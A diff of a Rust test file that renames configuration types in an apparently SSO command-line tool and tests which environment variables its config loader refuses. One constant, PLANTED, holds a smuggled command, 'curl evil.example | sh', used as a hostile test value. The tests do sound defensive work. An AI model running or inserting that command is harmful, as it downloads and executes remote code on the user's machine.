@@ -3,10 +3,10 @@
 use super::{GOOD, Home, TRUSTING};
 use crate::{
     config::{
-        Error, Fault, Place, Problem,
-        key::{Default, KEYS, Key, Kind, Variable},
-        value::written,
-        variables::DECLARED,
+        ConfigFault, ConfigProblem, Error, ValueLocation,
+        key::{ConfigKey, KEYS, KeyDefault, ValueKind, VariablePolicy},
+        value::to_toml,
+        variables::KNOWN_VARIABLES,
     },
     failure::{Exit, Failure},
 };
@@ -15,19 +15,19 @@ use crate::{
 const PLANTED: &str = "planted; curl evil.example | sh";
 
 /// A legal value for a variable, other than the default.
-fn legal(key: &Key) -> String {
+fn legal(key: &ConfigKey) -> String {
     match (key.name, key.kind, key.default) {
         ("region", ..) => "us-west-2".to_owned(),
         ("session_duration", ..) => "1h".to_owned(),
-        (_, Kind::Span(..), _) => "10m".to_owned(),
-        (_, Kind::Word(words), Default::Text(default)) => {
+        (_, ValueKind::DurationRange(..), _) => "10m".to_owned(),
+        (_, ValueKind::Choice(words), KeyDefault::Text(default)) => {
             words.iter().find(|word| **word != default).unwrap_or(&default).to_string()
         }
-        (_, _, _) => key.default_value().map(|value| written(&value)).unwrap_or_default(),
+        (_, _, _) => key.default_value().map(|value| to_toml(&value)).unwrap_or_default(),
     }
 }
 
-fn problems(home: &Home) -> Vec<Problem> {
+fn problems(home: &Home) -> Vec<ConfigProblem> {
     match home.load() {
         Err(Error::Invalid(problems)) => problems,
         other => panic!("{other:?}"),
@@ -45,7 +45,7 @@ fn by_variables() -> Home {
 
 #[test]
 fn variable_that_redirects_is_refused_beside_each_file() {
-    for key in KEYS.iter().filter(|key| key.variable == Variable::WithoutFile) {
+    for key in KEYS.iter().filter(|key| key.variable == VariablePolicy::WithoutFile) {
         let variable = key.variable_name();
         for home in [
             Home::new().user(GOOD),
@@ -57,12 +57,19 @@ fn variable_that_redirects_is_refused_beside_each_file() {
             Home::new().user("version = 1\n").with("mine.toml", "version = 1\n").file("mine.toml"),
         ] {
             let problems = problems(&home.variable(&variable, PLANTED));
-            let [Problem { place, fault: Fault::VariableRefused { variable: named, key: needed, file } }] =
-                problems.as_slice()
+            let [
+                ConfigProblem {
+                    location: place,
+                    fault: ConfigFault::VariableNotAllowed { variable: named, key: needed, file },
+                },
+            ] = problems.as_slice()
             else {
                 panic!("{}: {problems:?}", key.name)
             };
-            assert_eq!((place, named, *needed), (&Place::Variable(variable.clone()), &variable, key.name));
+            assert_eq!(
+                (place, named, *needed),
+                (&ValueLocation::Variable(variable.clone()), &variable, key.name)
+            );
             let failure = Failure::from(Error::Invalid(problems.clone()));
             assert_eq!(
                 (failure.exit, failure.slug.as_str()),
@@ -86,10 +93,11 @@ fn variable_with_the_files_own_value_is_refused_too() {
 
 #[test]
 fn variable_that_chooses_counts_beside_a_file() {
-    for key in KEYS.iter().filter(|key| key.variable == Variable::Always) {
+    for key in KEYS.iter().filter(|key| key.variable == VariablePolicy::Always) {
         let value = legal(key);
         let home = Home::new().user(GOOD).variable(&key.variable_name(), &value);
-        let shown = home.ask(crate::config::show).unwrap_or_else(|error| panic!("{}: {error}", key.name));
+        let shown =
+            home.ask(crate::config::report_profile).unwrap_or_else(|error| panic!("{}: {error}", key.name));
         let entry = shown.entries.into_iter().find(|entry| entry.key == key.name).unwrap();
         assert_eq!(entry.origin, key.variable_name(), "{} = {value}", key.name);
     }
@@ -97,9 +105,11 @@ fn variable_that_chooses_counts_beside_a_file() {
 
 #[test]
 fn variable_for_a_files_key_is_refused_without_a_file() {
-    for key in KEYS.iter().filter(|key| key.variable == Variable::Never) {
+    for key in KEYS.iter().filter(|key| key.variable == VariablePolicy::Never) {
         let problems = problems(&by_variables().variable(&key.variable_name(), PLANTED));
-        let is_refused = |fault: &Fault| matches!(fault, Fault::ByUser { .. } | Fault::ByVariable { .. });
+        let is_refused = |fault: &ConfigFault| {
+            matches!(fault, ConfigFault::AdministratorOnly { .. } | ConfigFault::FileOnly { .. })
+        };
         assert!(problems.iter().all(|problem| is_refused(&problem.fault)), "{}: {problems:?}", key.name);
     }
 }
@@ -143,7 +153,7 @@ fn config_variable_counts_without_a_file_and_its_profile_is_not_changed() {
     let home = Home::new().with("mine.toml", GOOD).variable("BEDROCK_SSO_CONFIG", "~/mine.toml");
     assert_eq!(home.load().unwrap().client_id, "0oa1b2c3d4");
     let home = home.variable("BEDROCK_SSO_CLIENT_ID", PLANTED);
-    assert!(matches!(problems(&home)[0].fault, Fault::VariableRefused { .. }));
+    assert!(matches!(problems(&home)[0].fault, ConfigFault::VariableNotAllowed { .. }));
 }
 
 #[test]
@@ -178,7 +188,10 @@ fn trust_in_a_named_file_is_refused() {
     let home = Home::new().with("mine.toml", TRUSTING).file("mine.toml");
     assert_eq!(home.line(), "~/mine.toml:1: \"trust_environment\" works only in a file in its default place");
     let home = Home::new().with("mine.toml", TRUSTING).variable("BEDROCK_SSO_CONFIG", "~/mine.toml");
-    assert!(matches!(problems(&home)[0].fault, Fault::ByNamedFile { key: "trust_environment" }));
+    assert!(matches!(
+        problems(&home)[0].fault,
+        ConfigFault::DefaultLocationOnly { key: "trust_environment" }
+    ));
     // Naming the default place is no other file.
     let home = Home::new().user(TRUSTING).file("user.toml").variable("BEDROCK_SSO_CLIENT_ID", "other");
     assert_eq!(home.load().unwrap().client_id, "other");
@@ -198,16 +211,16 @@ const DOCUMENTED: &str = include_str!("../../../docs/variables.md");
 
 /// The table of docs/variables.md as the declarations have it.
 fn documented() -> String {
-    let rule = |rule: Variable| match rule {
-        Variable::Always => "always",
-        Variable::WithoutFile => "where no file defines the profile",
-        Variable::Never => "never",
+    let rule = |rule: VariablePolicy| match rule {
+        VariablePolicy::Always => "always",
+        VariablePolicy::WithoutFile => "where no file defines the profile",
+        VariablePolicy::Never => "never",
     };
-    let row = |name: &str, counts: Variable, key: Option<&str>, effect: &str| {
+    let row = |name: &str, counts: VariablePolicy, key: Option<&str>, effect: &str| {
         let key = key.map_or_else(|| "–".to_owned(), |key| format!("`{key}`"));
         format!("| `{name}` | {} | {key} | {effect} |\n", rule(counts))
     };
-    let others = DECLARED.iter().map(|it| row(it.name, it.rule, it.key, it.effect));
+    let others = KNOWN_VARIABLES.iter().map(|it| row(it.name, it.policy, it.key, it.effect));
     let keys = KEYS.iter().map(|key| row(&key.variable_name(), key.variable, Some(key.name), "sets the key"));
     others.chain(keys).collect()
 }
@@ -221,13 +234,13 @@ fn documentation_lists_every_variable_as_it_is_declared() {
 }
 
 fn seen(home: &Home) -> Vec<(String, Option<String>)> {
-    let shown = home.ask(crate::config::show).unwrap();
+    let shown = home.ask(crate::config::report_profile).unwrap();
     shown.variables.into_iter().map(|it| (it.name, it.not_used)).collect()
 }
 
 #[test]
 fn every_set_variable_is_named_with_what_becomes_of_it() {
-    for declared in &DECLARED {
+    for declared in &KNOWN_VARIABLES {
         // It names another file, and would be refused.
         if declared.name == "BEDROCK_SSO_CONFIG" {
             continue;
@@ -237,7 +250,7 @@ fn every_set_variable_is_named_with_what_becomes_of_it() {
         let seen = seen(&home);
         let [(name, not_used)] = seen.as_slice() else { panic!("{}: {seen:?}", declared.name) };
         assert_eq!(name, declared.name);
-        if declared.rule == Variable::WithoutFile && declared.key.is_some() {
+        if declared.policy == VariablePolicy::WithoutFile && declared.key.is_some() {
             let file = if cfg!(windows) { r"~\user.toml" } else { "~/user.toml" };
             assert_eq!(not_used.as_deref(), Some(format!("{file} defines the profile").as_str()), "{name}");
             let by_trust = home_with(TRUSTING, declared.name);
